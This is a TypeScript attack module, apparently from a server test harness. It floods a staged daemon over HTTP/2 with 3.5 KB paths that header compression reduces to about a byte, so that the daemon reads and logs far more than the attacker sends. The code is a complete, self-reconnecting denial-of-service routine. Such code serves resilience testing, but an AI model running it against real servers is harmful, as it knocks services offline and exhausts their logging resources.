import type { ClientHttp2Session } from 'node:http2';
import type { Attack } from '../attack.ts';
import { openSession } from '../http2-client.ts';

const CLIENTS = 8;
const REQUESTS_AT_ONCE = 50;
/** A path that fits the table of compression: from the second request on it is one byte. */
const PATH = `/${'p'.repeat(3_500)}`;
const RETRY_MS = 50;

/** What is sent is 200 times smaller than what the daemon reads, and once logged. */
export const http2Headers: Attack = {
  name: 'http2-headers',
  what: 'compressed paths of 3.5 KB over HTTP/2, 8 clients, a log reader at 20 MB/s',
  needsTls: true,
  logBytesPerS: 20_000_000,
  prepare(stage) {
    stage.put('mallory', 'index.html', 'mallory');
    stage.name('mallory.example', 'mallory');
  },
  async attack({ tlsPort }, signal) {
    const attacker = async (client: number): Promise<void> => {
      while (!signal.aborted) {
        const session = await openSession(tlsPort, client);
        if (session !== undefined) await askUntilClosed(session, signal);
        await new Promise((resolve) => setTimeout(resolve, RETRY_MS));
      }
    };
    await Promise.all(Array.from({ length: CLIENTS }, (_, client) => attacker(client)));
  },
};

async function askUntilClosed(session: ClientHttp2Session, signal: AbortSignal): Promise<void> {
  const asker = async (): Promise<void> => {
    while (!session.destroyed && !session.closed && !signal.aborted) await ask(session);
  };
  await Promise.all(Array.from({ length: REQUESTS_AT_ONCE }, asker));
  session.destroy();
}

function ask(session: ClientHttp2Session): Promise<void> {
  const stream = session.request({ ':path': PATH });
  stream.on('error', () => stream.destroy());
  stream.resume();
  return new Promise((resolve) => stream.once('close', () => resolve()));
}
